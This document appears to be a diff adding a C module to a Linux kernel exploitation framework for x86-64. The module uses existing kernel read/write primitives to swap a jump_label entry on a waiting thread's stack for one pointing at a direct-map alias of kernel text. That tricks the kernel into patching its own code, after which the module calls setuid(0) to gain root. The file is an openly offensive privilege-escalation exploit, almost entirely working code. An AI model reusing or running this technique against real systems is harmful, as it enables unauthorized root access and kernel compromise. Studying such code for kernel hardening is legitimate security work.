@@ -1,0 +1,155 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Who patches a jump label waits for a mutex that is made to look held, and its entry is
+ * changed on the stack to one in ordinary memory. The section asks what is at the place
+ * that this entry names, which is an ordinary page. It notes the place in 32 bits, counted
+ * from the kernel's text, and a multiple of 4 GiB away from that page is this text.
+ */
+#include <stdio.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "held.h"
+#include "list.h"
+#include "objects.h"
+#include "patching.h"
+
+#ifdef __x86_64__
+#define ASKED		"arch_jump_label_transform_queue"
+#define ASKED_LENGTH	0x80
+#define FAR_MASK	0xffffffffUL
+#define ROOM		128		/* from the place to the entry */
+#define PAUSE		10000		/* microseconds */
+#define PATIENCE	300		/* pauses */
+#define TRIES		3
+
+static const unsigned char nop[PATCH] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
+
+static struct {
+	uint64_t own, code, target, key, far, entry, phys;
+	char old[ROOM + sizeof(struct jump_entry)];
+} jump;
+
+static unsigned char first_byte(uint64_t at)
+{
+	unsigned char byte = 0;
+
+	kread(at, &byte, sizeof(byte));
+	return byte;
+}
+
+static bool is_jump(uint64_t at)
+{
+	return first_byte(at) == 0xeb || first_byte(at) == 0xe9;
+}
+
+/* Registers that were pushed below the way back; not those of the callers. */
+static bool change_entry(const struct held_change *change, uint64_t addr, const uint64_t *words)
+{
+	bool changed = false;
+	int i;
+
+	(void)change;
+	for (i = -HELD_BELOW; i < 0; i++) {
+		if (words[i] != jump.own)
+			continue;
+		kwrite64(addr + i * sizeof(*words), jump.entry);
+		changed = true;
+	}
+	return changed;
+}
+
+static bool is_never_over(const struct held_change *change)
+{
+	(void)change;
+	return false;
+}
+
+static void settle(void)
+{
+	int i;
+
+	for (i = 0; i < PATIENCE && !held_is_done(); i++)
+		usleep(PAUSE);
+	usleep(20 * PAUSE);
+}
+
+/* The kernel looks for what it expects where the entry says. */
+static bool turn(bool on, const struct held_change *way)
+{
+	const struct held_lock lock = held_mutex();
+	struct text_poke_loc loc = make_jump(jump.code, jump.target);
+	bool changed;
+
+	kwrite(jump.far, on ? nop : loc.text, PATCH);
+	changed = held_act(&lock, way);
+	settle();
+	return changed;
+}
+
+/* By the direct map: the same low 32 bits as the place in the kernel's text. */
+static bool find_far(void)
+{
+	struct slot slot;
+	unsigned char frame = 0xff;
+
+	jump.phys = (jump.code - direct_map_base()) & FAR_MASK;
+	jump.far = direct_map_base() + jump.phys;
+	if (kwalk(jump.far, LEAF, 0, &slot) || slot.phys != jump.phys)
+		return false;
+	if (frame_at(jump.phys / PAGE_SIZE))
+		kread(frame_at(jump.phys / PAGE_SIZE), &frame, sizeof(frame));
+	jump.entry = (jump.far & -16UL) + ROOM;
+	return (!is_protected() || !frame) && jump.phys % PAGE_SIZE < PAGE_SIZE - 2 * ROOM &&
+	       !kread(jump.far, jump.old, sizeof(jump.old));
+}
+
+static bool prepare(void)
+{
+	jump.key = ksymbol(KEY);
+	jump.own = patched_entry();
+	jump.code = find_code();
+	jump.target = find_target();
+	return jump.key && !kread64(jump.key) && jump.code && jump.target;
+}
+
+enum outcome jump_far(void)
+{
+	const struct held_change way = { ASKED, ASKED_LENGTH, change_entry, is_never_over, NULL };
+	enum outcome outcome;
+	int uid = getuid(), err;
+	bool jumps;
+
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU");
+	held_start(switch_over);
+	if (!prepare())
+		return broken("no static key, or no place that can be patched");
+	if (!find_far())
+		return skipped("no ordinary page of the direct map ends like 0x%lx (0x%lx)",
+			       jump.code, jump.phys);
+	write_entry(jump.entry, jump.far, jump.far + (jump.target - jump.code), jump.key);
+	if (!turn(true, &way))
+		return broken("nobody waited with the entry");
+	jumps = is_jump(jump.code);
+	err = setuid(0);
+	if (jumps)
+		turn(false, &way);
+	else
+		held_ask();
+	settle();
+	held_stop();
+	kwrite(jump.far, jump.old, sizeof(jump.old));
+	if (!jumps)
+		return lost("the kernel patched its own places only");
+	if (err || getuid())
+		return lost("the text was patched, and setuid(0) refused");
+	return won("an entry that names physical 0x%lx had the kernel's text at 0x%lx patched: setuid(0) by uid=%d gave uid=%d",
+		   jump.phys, jump.code, uid, getuid());
+}
+#else
+enum outcome jump_far(void)
+{
+	return skipped("x86-64 only");
+}
+#endif
